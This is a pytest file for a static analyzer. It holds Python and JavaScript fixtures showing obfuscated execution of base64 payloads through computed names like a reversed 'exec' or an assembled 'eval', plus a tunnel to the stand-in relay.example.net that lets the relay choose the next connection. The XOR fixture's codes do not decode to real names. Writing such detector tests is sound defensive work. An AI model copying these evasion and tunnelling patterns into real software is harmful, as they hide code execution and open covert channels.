"""Packed code that a function of a computed name runs, and connections that the other side dictates."""

import pytest

from tests.surface.test_flow_limits import javascript, python

PACKED = (
    "import base64, builtins, hashlib, importlib\nX = 'cHJpbnQoJ2hlbGxvIHdvcmxkJyk7IHByaW50KDEp'\n"
)
PACKED_JS = 'const X = "Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkJyk7";\n'
SOCKETS = """import socket
def pump(a, b):
    while data := a.recv(4096):
        b.sendall(data)
def tunnel():
    s = socket.create_connection(("relay.example.net", 443))
    host, _, port = s.recv(256).decode().partition(":")
    {}
    t = socket.create_connection((host, int(port)))
    {}
"""
SOCKETS_JS = """import net from "node:net";
const up = net.connect(4443, "relay.example.net");
up.once("data", (chunk) => {{
  const [host, port] = chunk.toString().split(":");
  {}
  const inner = net.connect(Number(port), host);
  {}
}});
"""


@pytest.mark.parametrize(
    ("code", "hidden"),
    [
        (
            (
                "def w(*c): return ''.join(map(chr, (n ^ 7 for n in c)))\n"
                "vars(importlib.import_module(w(101, 114)))[w(98, 127)](base64.b64decode(X).decode(), {})"
            ),
            True,
        ),
        ("def w(t): return t[::-1]\ngetattr(builtins, w('cexe'))(base64.b64decode(X))", True),
        ("def w(): return 'sha' + str(256)\ngetattr(hashlib, w())(base64.b64decode(X))", False),
        ("def w(k): return 'parse_' + k\nglobals()[w('csv')](base64.b64decode(X))", False),
    ],
)
def test_packed_in_python(code: str, hidden: bool) -> None:
    kinds = {flow.kind for flow in python("return 'x'", f"{PACKED}{code}\n").flows}
    assert ("decoded" in kinds) == hidden


@pytest.mark.parametrize(
    ("code", "hidden"),
    [
        (
            (
                "const p = ['al', 'ev']; function f() { let o=''; for (const s of p) o = s + o; return o }\n"
                "Reflect.get(globalThis, f())(atob(X));"
            ),
            True,
        ),
        ("const name = () => 'parse'; JSON[name()](atob(X));", False),
    ],
)
def test_packed_in_javascript(code: str, hidden: bool) -> None:
    kinds = {flow.kind for flow in javascript("return 1;", f"{PACKED_JS}{code}\n").flows}
    assert ("decoded" in kinds) == hidden


@pytest.mark.parametrize(
    ("checked", "passed", "steered"),
    [
        ("", "pump(s, t); pump(t, s)", True),
        ("if host not in HOSTS: return", "pump(s, t); pump(t, s)", False),
    ],
)
def test_tunnels_in_python(checked: str, passed: str, steered: bool) -> None:
    code = f"HOSTS = {{'a.example.net'}}\n{SOCKETS.format(checked, passed)}"
    assert ("steered" in {flow.kind for flow in python("return 'x'", code).flows}) == steered


@pytest.mark.parametrize(
    ("checked", "passed", "steered"),
    [
        ("", "up.pipe(inner); inner.pipe(up);", True),
        ("if (!HOSTS.has(host)) return;", "up.pipe(inner); inner.pipe(up);", False),
        ("", "inner.end();", False),
    ],
)
def test_tunnels_in_javascript(checked: str, passed: str, steered: bool) -> None:
    code = f"const HOSTS = new Set(['a.example.net']);\n{SOCKETS_JS.format(checked, passed)}"
    kinds = {flow.kind for flow in javascript("return 1;", code).flows}
    assert ("steered" in kinds) == steered
